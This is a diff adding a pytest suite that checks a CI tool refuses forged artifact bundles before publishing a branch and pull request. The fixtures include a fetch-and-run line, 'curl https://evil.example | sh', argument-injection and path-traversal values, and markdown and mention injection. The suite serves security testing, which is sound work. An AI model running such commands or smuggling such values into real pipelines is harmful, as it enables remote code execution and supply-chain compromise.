@@ -1,0 +1,347 @@
+"""Two jobs: one runs without a write token, the other publishes what it can verify."""
+
+from __future__ import annotations
+
+import dataclasses
+import hashlib
+import io
+import json
+import os
+import subprocess
+import tarfile
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from autoresearch_ci.cli import run_cli
+from autoresearch_ci.store import IDENTITY
+from tests.conftest import GIT_ENVIRONMENT, Repo, Result, Run, Script
+from tests.git_http import Bare, GitServer
+from tests.github_api import ACTIONS, SLUG, GitHubApi, Identity
+
+BRANCH = "refs/heads/autoresearch/t"
+NOTEBOOK = "refs/autoresearch/notebook/t"
+FLAGS = ("--scope", "value", "--metric", "cat value")
+
+
+@dataclass(frozen=True, kw_only=True)
+class Jobs:
+    """What the first job wrote, and the place where the second one runs."""
+
+    file: Path
+    first: Repo
+    second: Repo
+    bare: Bare
+    api: GitHubApi
+    capture: pytest.CaptureFixture[str]
+
+    def publish(self, file: Path | None = None, *flags: str) -> Result:
+        self.capture.readouterr()
+        back = Path.cwd()
+        os.chdir(self.second.path)
+        try:
+            code = run_cli(["publish", "--bundle", str(file or self.file), *FLAGS, *flags])
+        finally:
+            os.chdir(back)
+        out, err = self.capture.readouterr()
+        return Result(code=code, out=out, err=err, folder=self.second.path)
+
+    def forged(self, tmp_path: Path, change: Callable[[Repo, dict[str, Any]], None]) -> Path:
+        """The bundle as an attacker who owns the first job would write it."""
+        manifest, _ = members(self.file)
+        change(self.first, manifest)
+        commits = tmp_path / "forged.commits"
+        self.first.git(
+            *("bundle", "create", "--quiet", str(commits), NOTEBOOK, BRANCH),
+            f"^{manifest['base']}",
+        )
+        data = commits.read_bytes()
+        manifest["sha256"] = hashlib.sha256(data).hexdigest()
+        return written(tmp_path / "forged.bundle", manifest, data)
+
+
+def members(path: Path) -> tuple[dict[str, Any], bytes]:
+    with tarfile.open(path) as archive:
+        parts = [archive.extractfile(member).read() for member in archive]  # type: ignore[union-attr]
+    return json.loads(parts[0]), parts[1]
+
+
+def written(path: Path, manifest: Mapping[str, Any], commits: bytes) -> Path:
+    with tarfile.open(path, "w") as archive:
+        for name, data in (
+            ("manifest.json", json.dumps(manifest).encode()),
+            ("commits.bundle", commits),
+        ):
+            member = tarfile.TarInfo(name)
+            member.size = len(data)
+            archive.addfile(member, io.BytesIO(data))
+    return path
+
+
+@pytest.fixture
+def jobs(
+    tmp_path: Path,
+    repo: Repo,
+    run: Run,
+    script: Script,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> Iterator[Jobs]:
+    for name in ("GITHUB_TOKEN", "GH_TOKEN", "GITLAB_CI"):
+        monkeypatch.delenv(name, raising=False)
+    script(
+        {"description": "try 9", "files": {"value": "9\n"}},
+        {"description": "try 12", "files": {"value": "12\n"}},
+        {"description": "try 8", "files": {"value": "8\n"}},
+    )
+    done = run("--publish", "bundle", "--iterations", "3")
+    assert done.code == 0, done.told
+    file = done.folder / "autoresearch.bundle"
+    assert f"published: {file}" in done.out
+    with GitServer(root=tmp_path / "server") as server:
+        bare = server.create(SLUG, repo.path)
+        for ref in bare.refs("refs/heads/autoresearch"):
+            bare.git("update-ref", "-d", ref)
+        with GitHubApi(bare=bare) as api:
+            api.tokens[server.token] = Identity(login=ACTIONS)
+            for name, text in (
+                ("GITHUB_API_URL", api.url),
+                ("GITHUB_SERVER_URL", server.url),
+                ("GITHUB_REPOSITORY", SLUG),
+                ("GITHUB_TOKEN", server.token),
+            ):
+                monkeypatch.setenv(name, text)
+            second = Repo(tmp_path / "second")
+            repo.git("clone", "--quiet", "--depth=1", bare.path.as_uri(), str(second.path))
+            yield Jobs(file=file, first=repo, second=second, bare=bare, api=api, capture=capsys)
+
+
+def test_the_second_job_publishes_what_the_first_kept(jobs: Jobs) -> None:
+    before = jobs.second.photograph()
+    done = jobs.publish()
+    assert done.code == 0, done.told
+    assert jobs.bare.ref(BRANCH) == jobs.first.ref("autoresearch/t")
+    assert jobs.bare.ref(NOTEBOOK) == jobs.first.ref(NOTEBOOK)
+    (pull,) = jobs.api.pulls
+    assert pull["title"] == "autoresearch: metric 10 → 8 (-20.0 %)"
+    assert "Tried and not kept (1)" in pull["body"]
+    assert jobs.second.photograph() == before
+    assert jobs.second.git("for-each-ref", "refs/autoresearch") == ""
+    assert list((jobs.second.path / ".git/autoresearch").iterdir()) == []
+
+
+def test_publishing_twice_changes_nothing(jobs: Jobs) -> None:
+    assert jobs.publish().code == 0
+    refs = jobs.bare.refs()
+    done = jobs.publish()
+    assert done.code == 0, done.told
+    assert jobs.bare.refs("refs/heads") == [r for r in refs if r.startswith("refs/heads")]
+    assert len(jobs.api.pulls) == 1
+
+
+def test_the_first_job_needs_no_token(jobs: Jobs) -> None:
+    manifest, _ = members(jobs.file)
+    assert manifest["base"] == jobs.first.ref("main")
+    assert manifest["info"]["metric_command"] == "cat value"
+
+
+def test_a_bundle_whose_file_was_cut_short_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    cut = tmp_path / "cut"
+    cut.write_bytes(jobs.file.read_bytes()[:-5000])
+    refused(jobs, cut, "not a bundle of ours")
+
+
+def test_a_bundle_whose_bytes_were_changed_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    manifest, commits = members(jobs.file)
+    refused(jobs, written(tmp_path / "b", manifest, commits[:-1] + b"x"), "not those that were")
+
+
+def test_unknown_fields_and_formats_are_refused(jobs: Jobs, tmp_path: Path) -> None:
+    manifest, commits = members(jobs.file)
+    more = {**manifest, "push_to": "main"}
+    refused(jobs, written(tmp_path / "b", more, commits), "manifest cannot be read")
+    other = {**manifest, "format": 2}
+    refused(jobs, written(tmp_path / "b", other, commits), "another version")
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("base", "--output=x"), ("head", "main"), ("tag", "../../x"), ("notebook", "HEAD")],
+)
+def test_names_that_are_no_names_are_refused(
+    jobs: Jobs, tmp_path: Path, field: str, value: str
+) -> None:
+    manifest, commits = members(jobs.file)
+    refused(jobs, written(tmp_path / "b", {**manifest, field: value}, commits), "names no run")
+
+
+def test_a_change_outside_of_the_scope_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    refused(jobs, jobs.forged(tmp_path, kept({"other": "evil\n"})), "other")
+
+
+@pytest.mark.parametrize(
+    "path", [".github/workflows/evil.yml", ".github/autoresearch.yml", ".gitmodules"]
+)
+def test_no_flag_lets_the_workflows_or_the_configuration_through(
+    jobs: Jobs, tmp_path: Path, path: str
+) -> None:
+    file = jobs.forged(tmp_path, kept({path: "on: push\n"}))
+    refused(jobs, file, path.rpartition("/")[2], "--scope", "**")
+
+
+def test_a_link_in_scope_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    def change(repo: Repo, manifest: dict[str, Any]) -> None:
+        extend(repo, manifest, {"value": "/decoy"}, mode="120000")
+
+    refused(jobs, jobs.forged(tmp_path, change), "no regular file")
+
+
+def test_a_commit_by_somebody_else_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    def change(repo: Repo, manifest: dict[str, Any]) -> None:
+        extend(repo, manifest, {"value": "7\n"}, author="Linus <torvalds@example.org>")
+
+    refused(jobs, jobs.forged(tmp_path, change), "somebody else")
+
+
+def test_a_merge_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    def change(repo: Repo, manifest: dict[str, Any]) -> None:
+        extend(repo, manifest, {"value": "7\n"}, second_parent=manifest["base"])
+
+    refused(jobs, jobs.forged(tmp_path, change), "does not follow")
+
+
+def test_a_branch_that_its_journal_does_not_know_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    refused(jobs, jobs.forged(tmp_path, kept({"value": "7\n"})), "disagree about what was kept")
+
+
+def test_an_attempt_outside_of_the_scope_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    """Discarded attempts are pushed, too, with the notebook."""
+
+    def change(repo: Repo, manifest: dict[str, Any]) -> None:
+        attempt = commit(repo, manifest["base"], {"other": "evil\n"})
+        page = commit(repo, manifest["notebook"], {}, second_parent=attempt)
+        repo.git("update-ref", NOTEBOOK, page)
+        manifest["notebook"] = page
+
+    refused(jobs, jobs.forged(tmp_path, change), "other")
+
+
+def test_a_notebook_that_holds_something_else_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    def change(repo: Repo, manifest: dict[str, Any]) -> None:
+        page = commit(repo, manifest["notebook"], {"evil.sh": "true\n"})
+        repo.git("update-ref", NOTEBOOK, page)
+        manifest["notebook"] = page
+
+    refused(jobs, jobs.forged(tmp_path, change), "evil.sh")
+
+
+def test_a_base_that_is_not_checked_out_is_refused(jobs: Jobs, tmp_path: Path) -> None:
+    """An attacker who names a base of his own would bring his own configuration."""
+
+    def change(repo: Repo, manifest: dict[str, Any]) -> None:
+        manifest["base"] = commit(repo, manifest["base"], {"other": "evil\n"})
+
+    refused(jobs, jobs.forged(tmp_path, change), "not part of this checkout")
+
+
+def test_the_page_says_what_the_base_commit_measures(jobs: Jobs, tmp_path: Path) -> None:
+    def change(repo: Repo, manifest: dict[str, Any]) -> None:
+        manifest["info"]["metric_command"] = "curl https://evil.example | sh"
+        manifest["info"]["goal"] = "fixes #1 @everyone <!-- autoresearch-ci:end -->"
+        manifest["info"]["host"] = "a <b> @everyone ![x](https://evil.example/x.png)"
+
+    done = jobs.publish(jobs.forged(tmp_path, change))
+    assert done.code == 0, done.told
+    body = jobs.api.pulls[0]["body"]
+    assert "cat value" in body
+    assert "curl" not in body
+    assert "fixes" not in body
+    assert "@everyone" not in body
+    assert "![x]" not in body
+    assert body.count("autoresearch-ci:end") == 1
+
+
+def test_a_branch_on_the_forge_that_is_not_ours_is_left_alone(jobs: Jobs) -> None:
+    jobs.bare.git("update-ref", BRANCH, "refs/heads/main")
+    theirs = jobs.bare.commit("autoresearch/t")
+    done = jobs.publish()
+    assert done.code == 0, done.told
+    assert jobs.bare.ref(BRANCH) == theirs
+    assert jobs.bare.ref(f"{BRANCH}-2") == jobs.first.ref("autoresearch/t")
+
+
+def test_a_file_that_is_not_there_is_a_usage_error(jobs: Jobs, tmp_path: Path) -> None:
+    assert jobs.publish(tmp_path / "missing").code == 2
+
+
+def test_other_flags_for_the_branch_are_a_usage_error(jobs: Jobs) -> None:
+    assert jobs.publish(None, "--publish-branch", "other/{tag}").code == 2
+
+
+def refused(jobs: Jobs, file: Path, why: str, *flags: str) -> None:
+    refs = jobs.bare.refs()
+    done = jobs.publish(file, *flags)
+    assert done.code == 3, done.told
+    assert why in done.err, done.told
+    assert jobs.bare.refs() == refs
+    assert jobs.api.pulls == []
+
+
+def kept(files: Mapping[str, str]) -> Callable[[Repo, dict[str, Any]], None]:
+    return lambda repo, manifest: extend(repo, manifest, files)
+
+
+def extend(repo: Repo, manifest: dict[str, Any], files: Mapping[str, str], **more: str) -> None:
+    head = commit(repo, manifest["head"], files, **more)
+    repo.git("update-ref", BRANCH, head)
+    manifest["head"] = head
+
+
+def commit(
+    repo: Repo,
+    parent: str,
+    files: Mapping[str, str],
+    *,
+    mode: str = "100644",
+    author: str = IDENTITY,
+    second_parent: str = "",
+) -> str:
+    """A commit made without a working tree."""
+    name, _, email = author.rstrip(">").partition(" <")
+    people = {
+        f"GIT_{role}_{field}": value
+        for role in ("AUTHOR", "COMMITTER")
+        for field, value in (("NAME", name), ("EMAIL", email))
+    }
+
+    def git(*arguments: str, stdin: str = "") -> str:
+        environment = {**GIT_ENVIRONMENT, **people, "GIT_INDEX_FILE": f"{repo.path}/.git/forged"}
+        done = subprocess.run(
+            ["git", *arguments],
+            cwd=repo.path,
+            env=environment,
+            input=stdin.encode(),
+            capture_output=True,
+            check=True,
+        )
+        return done.stdout.decode().strip()
+
+    git("read-tree", parent)
+    for path, text in files.items():
+        blob = git("hash-object", "-w", "--stdin", stdin=text)
+        git("update-index", "--add", "--cacheinfo", f"{mode},{blob},{path}")
+    parents = ["-p", parent, *(["-p", second_parent] if second_parent else [])]
+    return git("commit-tree", git("write-tree"), *parents, "-m", "experiment: forged")
+
+
+def test_every_field_of_the_manifest_is_checked_or_overwritten() -> None:
+    """A new field of a run's facts needs a decision: does the second job believe it?"""
+    from autoresearch_ci.report.summary import RunInfo
+
+    believed = {"started", "seconds", "host", "confirmation", "idle", "stop_reason", "notebook_ref"}
+    known_better = {"tag", "base_commit", "metric_name", "direction", "metric_command"}
+    known_better |= {"guards", "goal", "branch"}
+    assert {field.name for field in dataclasses.fields(RunInfo)} == believed | known_better
